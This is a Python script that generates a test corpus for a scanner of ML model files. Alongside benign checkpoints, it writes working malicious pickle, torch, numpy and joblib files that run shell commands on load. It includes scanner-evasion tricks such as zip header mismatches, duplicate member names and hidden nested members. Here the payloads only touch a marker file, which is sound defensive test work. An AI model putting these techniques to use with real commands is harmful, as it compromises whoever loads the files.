#!/usr/bin/python3
"""Generates the scanner test corpus into OUTDIR: benign files real training jobs write, and
malicious files for each technique, each proven to execute under its loader in a subprocess.

Writes OUTDIR/expected.json: [{file, expect: clean|suspicious|dangerous, global?, offset?, member?}].
Run with /usr/bin/python3 (Debian's python3-torch and numpy).
"""
import bz2, collections, copyreg, datetime, gzip, io, json, lzma, os, pickle, pickletools
import shutil, struct, subprocess, sys, tempfile, zipfile, zlib

import numpy as np
import torch

OUT = os.path.abspath(sys.argv[1])
EXPECT = []
MARKDIR = tempfile.mkdtemp(prefix="mw-corpus-marker-")

LOADERS = {
    "pickle": "import pickle,sys; pickle.load(open(sys.argv[1],'rb'))",
    "pickle_seq": ("import pickle,sys\nf=open(sys.argv[1],'rb')\n"
                   "while True:\n  try: pickle.load(f)\n  except EOFError: break"),
    "torch": "import torch,sys; torch.load(sys.argv[1])",
    "numpy": "import numpy,sys; numpy.load(sys.argv[1], allow_pickle=True)",
    "npz": "import numpy,sys; z=numpy.load(sys.argv[1], allow_pickle=True); [z[k] for k in z.files]",
    "joblib": "import joblib,sys; joblib.load(sys.argv[1])",
    "zip_member": "import pickle,sys,zipfile; pickle.loads(zipfile.ZipFile(sys.argv[1]).read(sys.argv[2]))",
    "nested_zip": ("import io,pickle,sys,zipfile\nouter=zipfile.ZipFile(sys.argv[1])\n"
                   "inner=zipfile.ZipFile(io.BytesIO(outer.read(sys.argv[2])))\npickle.loads(inner.read(sys.argv[3]))"),
    "ext": "import copyreg,pickle,sys; copyreg.add_extension('posix','system',240); pickle.load(open(sys.argv[1],'rb'))",
    "build_attr": ("import argparse,pickle,sys,pathlib\npickle.load(open(sys.argv[1],'rb'))\n"
                   "if getattr(argparse.Namespace,'mw_marker',None)==1: pathlib.Path(sys.argv[2]).touch()"),
}


def path(sub, name):
    p = os.path.join(OUT, sub, name)
    os.makedirs(os.path.dirname(p), exist_ok=True)
    return p


def marker(name):
    return os.path.join(MARKDIR, name + ".ran")


def verify_runs(name, file, loader, *args, mark=None):
    """Run the loader in a subprocess; the payload must create the marker."""
    mark = mark or marker(name)
    if os.path.exists(mark):
        os.unlink(mark)
    extra = [a if a != "@MARK" else mark for a in args]
    subprocess.run(["/usr/bin/python3", "-c", LOADERS[loader], file, *extra], cwd=MARKDIR,
                   stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=120)
    if not os.path.exists(mark):
        raise SystemExit(f"gen_corpus: malicious sample {name} did not execute under {loader}")
    os.unlink(mark)


def first_import_offset(data, start=0, want=None):
    """Offset of the first GLOBAL/INST/STACK_GLOBAL/EXT opcode at or after start."""
    try:
        for op, arg, pos in pickletools.genops(data[start:]):
            if op.name in ("GLOBAL", "INST", "STACK_GLOBAL", "EXT1", "EXT2", "EXT4"):
                if want is None or (arg and want in str(arg).replace(" ", ".")) or op.name != "GLOBAL":
                    return start + pos
    except Exception:
        pass
    return None


def benign(name, data_or_writer):
    p = path("benign", name)
    if callable(data_or_writer):
        data_or_writer(p)
    else:
        open(p, "wb").write(data_or_writer)
    EXPECT.append({"file": "benign/" + name, "expect": "clean"})


def malicious(name, data, loader, expect="dangerous", glob=None, offset=None, member=None, args=(), mark=None):
    p = path("malicious", name)
    if callable(data):
        data(p)
    else:
        open(p, "wb").write(data)
    verify_runs(name, p, loader, *args, mark=mark)
    e = {"file": "malicious/" + name, "expect": expect}
    if glob is not None:
        e["global"] = glob
    if offset is not None:
        e["offset"] = offset
    if member is not None:
        e["member"] = member
    EXPECT.append(e)


class Payload:
    """Runs a shell command through os.system when unpickled."""
    def __init__(self, name):
        self.cmd = f"touch {marker(name)}"

    def __reduce__(self):
        return (os.system, (self.cmd,))


# ---------------------------------------------------------------- benign
torch.manual_seed(0)
model = torch.nn.Sequential(torch.nn.Linear(4, 8), torch.nn.ReLU(), torch.nn.BatchNorm1d(8), torch.nn.Linear(8, 2))
sd = model.state_dict()
for proto in range(0, 6):
    benign(f"state_dict_p{proto}.pt", lambda p, proto=proto: torch.save(sd, p, pickle_protocol=proto))
for proto in (1, 2, 4):
    benign(f"state_dict_legacy_p{proto}.pt", lambda p, proto=proto: torch.save(sd, p, pickle_protocol=proto, _use_new_zipfile_serialization=False))
opt = torch.optim.Adam(model.parameters(), lr=1e-3)
model(torch.randn(3, 4)).sum().backward()
opt.step()
benign("optimizer.pt", lambda p: torch.save({"model": sd, "optimizer": opt.state_dict(), "epoch": 3, "loss": 0.25}, p))
sgd = torch.optim.SGD(model.parameters(), lr=0.1, momentum=0.9)
model(torch.randn(3, 4)).sum().backward()
sgd.step()
benign("optimizer_sgd_legacy.pt", lambda p: torch.save(sgd.state_dict(), p, _use_new_zipfile_serialization=False))
dtypes = [torch.float64, torch.float32, torch.float16, torch.bfloat16, torch.int64, torch.int32, torch.int16,
          torch.int8, torch.uint8, torch.bool, torch.complex64, torch.complex128]
tensors = {str(d): (torch.arange(6) % 2).to(d).reshape(2, 3) for d in dtypes}
tensors["quint8"] = torch.quantize_per_tensor(torch.rand(4), 0.1, 10, torch.quint8)
tensors["param"] = torch.nn.Parameter(torch.ones(3))
benign("tensors_all_dtypes.pt", lambda p: torch.save(tensors, p))
benign("tensors_all_dtypes_legacy.pt", lambda p: torch.save(tensors, p, _use_new_zipfile_serialization=False))
base = torch.arange(24.0).reshape(4, 6)
views = {"base": base, "row": base[1], "col": base[:, 2], "t": base.t(), "narrow": base.narrow(1, 1, 3)}
benign("views.pt", lambda p: torch.save(views, p))
benign("views_legacy.pt", lambda p: torch.save(views, p, _use_new_zipfile_serialization=False))
benign("torchscript.pt", lambda p: torch.jit.save(torch.jit.script(model.eval()), p))
benign("sparse.pt", lambda p: torch.save({"s": torch.eye(3).to_sparse()}, p))
for dt in ["<f8", "<f4", "<f2", "<i8", "<i4", "<i2", "i1", "u1", "?", "<c8", "<c16", "<U7", "S5"]:
    arr = np.arange(6).astype(dt).reshape(2, 3)
    benign(f"array_{dt.replace('<', '').replace('?', 'bool')}.npy", lambda p, arr=arr: np.save(p, arr))
benign("array_fortran.npy", lambda p: np.save(p, np.asfortranarray(np.arange(12.0).reshape(3, 4))))
benign("arrays.npz", lambda p: np.savez(open(p, "wb"), a=np.arange(5), b=np.ones((2, 2))))
benign("arrays_compressed.npz", lambda p: np.savez_compressed(open(p, "wb"), a=np.arange(100), b=np.zeros((8, 8))))
containers = {"list": [1, 2.5, "x", None, True], "tuple": (1, (2, 3)), "set": {1, 2}, "frozen": frozenset({3}),
              "bytes": b"\x00\x01", "bytearray": bytearray(b"ab"), "od": collections.OrderedDict(a=1),
              "dd": collections.defaultdict(list, {"k": [1]}), "complex": 1 + 2j, "big": 2 ** 80, "neg": -5,
              "when": datetime.datetime(2024, 1, 2, 3, 4, 5), "slice": slice(1, 5), "range": range(3)}
for proto in range(0, 6):
    benign(f"containers_p{proto}.pkl", pickle.dumps(containers, protocol=proto))
    benign(f"numpy_p{proto}.pkl", pickle.dumps({"a": np.arange(4.0), "s": np.float32(1.5), "m": np.eye(2)}, protocol=proto))
benign("state_dict_raw.bin", pickle.dumps(collections.OrderedDict(w=[0.1, 0.2], b=[0.0]), protocol=2))
import joblib  # noqa: E402
jdata = {"weights": np.random.rand(10, 3), "labels": np.array(["a", "bb"]), "objs": np.array([1, "x"], dtype=object), "cfg": {"lr": 0.1}}
benign("model.joblib", lambda p: joblib.dump(jdata, p))
for comp in ("zlib", "gzip", "bz2", "xz", "lzma"):
    benign(f"model_{comp}.joblib", lambda p, comp=comp: joblib.dump(jdata, p, compress=(comp, 3)))


def safetensors_bytes():
    t = np.arange(6, dtype=np.float32).tobytes()
    hdr = json.dumps({"__metadata__": {"format": "pt"}, "w": {"dtype": "F32", "shape": [2, 3], "data_offsets": [0, 24]}}).encode()
    return struct.pack("<Q", len(hdr)) + hdr + t


benign("model.safetensors", safetensors_bytes())


def gguf_bytes():
    out = b"GGUF" + struct.pack("<IQQ", 3, 1, 1)
    key = b"general.architecture"
    out += struct.pack("<Q", len(key)) + key + struct.pack("<I", 8) + struct.pack("<Q", 5) + b"llama"
    name = b"tok.weight"
    out += struct.pack("<Q", len(name)) + name + struct.pack("<I", 2) + struct.pack("<QQ", 4, 2) + struct.pack("<IQ", 0, 0)
    out += b"\0" * ((32 - len(out) % 32) % 32)
    return out + np.arange(8, dtype=np.float32).tobytes()


benign("model.gguf", gguf_bytes())

# ---------------------------------------------------------------- malicious
for proto in range(0, 6):
    n = f"reduce_system_p{proto}.pkl"
    data = pickle.dumps(Payload(n), protocol=proto)
    malicious(n, data, "pickle", glob="posix.system", offset=first_import_offset(data))

n = "builtins_exec.pkl"
data = pickle.dumps(type("E", (), {"__reduce__": lambda s: (exec, (f"open({marker(n)!r},'w')",))})(), protocol=2)
malicious(n, data, "pickle", glob="builtins.exec", offset=first_import_offset(data))

n = "py2_builtin_eval.pkl"
data = f"c__builtin__\neval\n(V__import__('os').system('touch {marker(n)}')\ntR.".encode()
malicious(n, data, "pickle", glob="builtins.eval", offset=0)

n = "inst_os_system.pkl"
data = f"(S'touch {marker(n)}'\nios\nsystem\n.".encode()
malicious(n, data, "pickle", glob="os.system", offset=data.index(b"ios"))

n = "obj_subprocess_popen.pkl"
data = f"(csubprocess\nPopen\n(lp0\nS'touch'\naS'{marker(n)}'\nao.".encode()
malicious(n, data, "pickle", glob="subprocess.Popen", offset=1)


def sg(module, name):
    """Protocol-4 STACK_GLOBAL operands as SHORT_BINUNICODE."""
    return b"\x8c" + bytes([len(module)]) + module.encode() + b"\x8c" + bytes([len(name)]) + name.encode() + b"\x93"


def arg_tuple(s):
    b = s.encode()
    return b"\x8c" + bytes([len(b)]) + b + b"\x85"


n = "stack_global_memo.pkl"
# Operands are memoised, popped and fetched back through BINGET; the name uses BINUNICODE8.
cmd = f"touch {marker(n)}"
data = (b"\x80\x04" + b"\x8c\x02os\x94" + b"0" + b"\x8d" + struct.pack("<Q", 6) + b"system\x94" + b"0" +
        b"h\x00h\x01\x93" + arg_tuple(cmd) + b"R.")
malicious(n, data, "pickle", glob="os.system", offset=data.index(b"\x93"))

n = "stack_global_unicode_escape.pkl"
# Protocol-0 UNICODE with raw-unicode-escapes spells 'os' / 'system' for a STACK_GLOBAL.
data = b"V\\u006fs\nV\\u0073ystem\n\x93" + f"(V{cmd.replace(marker('stack_global_memo.pkl'), marker(n))}\ntR.".encode()
malicious(n, data, "pickle", glob="os.system", offset=data.index(b"\x93"))

n = "getattr_chain.pkl"
data = (b"\x80\x02cbuiltins\ngetattr\n(cbuiltins\n__import__\n(X\x02\x00\x00\x00ostRX\x06\x00\x00\x00systemtR" +
        f"(V touch {marker(n)}\ntR.".encode())
malicious(n, data, "pickle", glob="builtins.getattr", offset=2)

n = "dotted_exec_call.pkl"
data = b"\x80\x04" + sg("builtins", "exec.__call__") + arg_tuple(f"open({marker(n)!r},'w')") + b"R."
malicious(n, data, "pickle", glob="builtins.exec.__call__", offset=data.index(b"\x93"))

n = "memo_global_reuse.pkl"
# The callable is memoised, dropped, and called later through LONG_BINGET.
data = b"\x80\x02cposix\nsystem\nr\x07\x00\x00\x000N0" + b"j\x07\x00\x00\x00" + arg_tuple(f"touch {marker(n)}") + b"R."
malicious(n, data, "pickle", glob="posix.system", offset=2)

n = "nested_pickle.pkl"
inner = pickle.dumps(Payload(n), protocol=2)
data = pickle.dumps(type("N", (), {"__reduce__": lambda s: (pickle.loads, (inner,))})(), protocol=2)
malicious(n, data, "pickle", glob="pickle.loads", offset=first_import_offset(data))

n = "appended_pickle.pkl"
first = pickle.dumps({"w": [1.0, 2.0]}, protocol=2)
data = first + pickle.dumps(Payload(n), protocol=2)
malicious(n, data, "pickle_seq", glob="posix.system", offset=first_import_offset(data, len(first)))

n = "broken_prefix.pkl"
good = pickle.dumps(Payload(n), protocol=2)
data = good[:-1] + b"\xff\xfe garbage"  # REDUCE runs, then the unpickler raises
malicious(n, data, "pickle", glob="posix.system", offset=first_import_offset(good))

n = "truncated_after_reduce.pkl"
good = pickle.dumps([Payload(n), list(range(50))], protocol=2)  # no FRAME: the C unpickler prefetches frames
reduce_at = next(pos for op, arg, pos in pickletools.genops(good) if op.name == "REDUCE")
data = good[:reduce_at + 1 + 5]
malicious(n, data, "pickle", glob="posix.system", offset=first_import_offset(good))

n = "frame_mismatch.pkl"
body = sg("posix", "system") + arg_tuple(f"touch {marker(n)}") + b"R."
data = b"\x80\x04\x95" + struct.pack("<Q", 3) + body  # frame claims 3 bytes; opcodes straddle it
malicious(n, data, "pickle", glob="posix.system", offset=data.index(b"\x93"))

n = "ext_opcode.pkl"
data = b"\x80\x02\x82\xf0" + arg_tuple(f"touch {marker(n)}") + b"R."
malicious(n, data, "ext", glob="<ext 240>", offset=2)

n = "build_module_attr.pkl"
# BUILD with a (None, slotstate) tuple setattr()s onto the class object itself.
data = b"\x80\x02cargparse\nNamespace\nN}X\x09\x00\x00\x00mw_markerK\x01s\x86b."
malicious(n, data, "build_attr", glob="argparse.Namespace", offset=data.index(b"b."), args=("@MARK",))

for comp, fn in (("zlib", zlib.compress), ("gzip", gzip.compress), ("bz2", bz2.compress),
                 ("xz", lzma.compress), ("lzma", lambda b: lzma.compress(b, format=lzma.FORMAT_ALONE))):
    n = f"compressed_{comp}.joblib"
    malicious(n, lambda p, comp=comp, n=n: joblib.dump({"model": Payload(n)}, p, compress=(comp, 3)), "joblib", glob="posix.system")

n = "object_dtype.npy"
malicious(n, lambda p: np.save(p, np.array([Payload(n), 1], dtype=object)), "numpy", glob="posix.system")

n = "object_member.npz"
malicious(n, lambda p: np.savez(open(p, "wb"), ok=np.arange(3), bad=np.array([Payload(n)], dtype=object)), "npz",
          glob="posix.system", member="bad.npy")

n = "legacy_torch.pt"
malicious(n, lambda p: torch.save({"w": torch.ones(2), "x": Payload(n)}, p, _use_new_zipfile_serialization=False),
          "torch", glob="posix.system")

n = "torch_zip_payload.pt"
malicious(n, lambda p: torch.save({"w": torch.ones(2), "x": Payload(n)}, p), "torch", glob="posix.system",
          member="torch_zip_payload/data.pkl")


def rebuild(src, dst, replace=None, extra=()):
    """Copy a zip, replacing member contents; extra: (name, bytes) appended."""
    zin = zipfile.ZipFile(src)
    with zipfile.ZipFile(dst, "w", zipfile.ZIP_STORED) as zout:
        for info in zin.infolist():
            data = zin.read(info.filename)
            if replace and info.filename in replace:
                data = replace[info.filename]
            zout.writestr(info, data)
        for name, data in extra:
            zout.writestr(name, data)


def torch_base(p, prefix):
    torch.save({"w": torch.ones(2)}, p)
    return next(m for m in zipfile.ZipFile(p).namelist() if m.endswith("/data.pkl"))


n = "zip_name_mismatch.pt"


def zip_name_mismatch(p):
    tmp = p + ".tmp"
    member = torch_base(tmp, "zip_name_mismatch")
    rebuild(tmp, p, replace={member: pickle.dumps(Payload(n), protocol=2)})
    os.unlink(tmp)
    raw = bytearray(open(p, "rb").read())
    # Rename the member in its local header only: scanners that walk local headers see data.pxl.
    idx = raw.index(b"PK\x03\x04" )
    lname = raw.index(member.encode(), idx)
    raw[lname:lname + len(member)] = member.replace("data.pkl", "data.pxl").encode()
    open(p, "wb").write(bytes(raw))


malicious(n, zip_name_mismatch, "torch", glob="posix.system")

n = "zip_bad_crc.pt"


def zip_bad_crc(p):
    tmp = p + ".tmp"
    member = torch_base(tmp, "zip_bad_crc")
    rebuild(tmp, p, replace={member: pickle.dumps(Payload(n), protocol=2)})
    os.unlink(tmp)
    raw = bytearray(open(p, "rb").read())
    cd = raw.index(b"PK\x01\x02")
    raw[cd + 16:cd + 20] = b"\xde\xad\xbe\xef"
    lh = raw.index(b"PK\x03\x04")
    raw[lh + 14:lh + 18] = b"\xde\xad\xbe\xef"
    open(p, "wb").write(bytes(raw))


malicious(n, zip_bad_crc, "torch", glob="posix.system")

n = "zip_odd_flags.pt"


def zip_odd_flags(p):
    tmp = p + ".tmp"
    member = torch_base(tmp, "zip_odd_flags")
    rebuild(tmp, p, replace={member: pickle.dumps(Payload(n), protocol=2)})
    os.unlink(tmp)
    raw = bytearray(open(p, "rb").read())
    for sig, off in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        i = raw.index(sig)
        raw[i + off] |= 0x10  # reserved "enhanced deflating" bit on a stored member; miniz ignores it
    open(p, "wb").write(bytes(raw))


malicious(n, zip_odd_flags, "torch", glob="posix.system")

n = "zip_duplicate_names.pt"


def zip_duplicate(p):
    tmp = p + ".tmp"
    member = torch_base(tmp, "zip_duplicate_names")
    import warnings
    warnings.simplefilter("ignore")
    # torch (miniz) takes the first copy; Python's zipfile, and scanners built on it, the last.
    benign_pkl = zipfile.ZipFile(tmp).read(member)
    rebuild(tmp, p, replace={member: pickle.dumps(Payload(n), protocol=2)}, extra=[(member, benign_pkl)])
    os.unlink(tmp)


malicious(n, zip_duplicate, "torch", glob="posix.system")

n = "pickle_before_zip.pt"


def pickle_before_zip(p):
    tmp = p + ".tmp"
    torch.save({"w": torch.ones(2)}, tmp)
    open(p, "wb").write(pickle.dumps(Payload(n), protocol=2) + open(tmp, "rb").read())
    os.unlink(tmp)


malicious(n, pickle_before_zip, "torch", glob="posix.system", offset=2)

n = "hidden_in_txt.zip"
malicious(n, lambda p: zipfile.ZipFile(p, "w").writestr("extra/notes.txt", pickle.dumps(Payload(n), protocol=4)),
          "zip_member", glob="posix.system", member="extra/notes.txt", args=("extra/notes.txt",))

n = "hidden_in_json.pt"


def hidden_json(p):
    tmp = p + ".tmp"
    torch.save({"w": torch.ones(2)}, tmp)
    rebuild(tmp, p, extra=[("hidden_in_json/extra/config.json", pickle.dumps(Payload(n), protocol=2))])
    os.unlink(tmp)


malicious(n, hidden_json, "zip_member", glob="posix.system", member="hidden_in_json/extra/config.json",
          args=("hidden_in_json/extra/config.json",))

n = "nested_zip.zip"


def nested_zip(p):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("model.pkl", pickle.dumps(Payload(n), protocol=2))
    with zipfile.ZipFile(p, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("inner.zip", buf.getvalue())


malicious(n, nested_zip, "nested_zip", glob="posix.system", member="inner.zip/model.pkl", args=("inner.zip", "model.pkl"))

n = "torch_load_nested.pkl"
inner_file = path("malicious", "torch_load_nested.inner")
torch.save({"x": Payload(n)}, inner_file)
data = pickle.dumps(type("T", (), {"__reduce__": lambda s: (torch.load, (inner_file,))})(), protocol=2)
malicious(n, data, "pickle", glob="torch.serialization.load", offset=first_import_offset(data))
EXPECT.append({"file": "malicious/torch_load_nested.inner", "expect": "dangerous", "global": "posix.system"})

shutil.rmtree(MARKDIR, ignore_errors=True)
json.dump(EXPECT, open(os.path.join(OUT, "expected.json"), "w"), indent=1)
print(f"gen_corpus: {sum(e['expect'] == 'clean' for e in EXPECT)} benign, "
      f"{sum(e['expect'] != 'clean' for e in EXPECT)} malicious files in {OUT}")
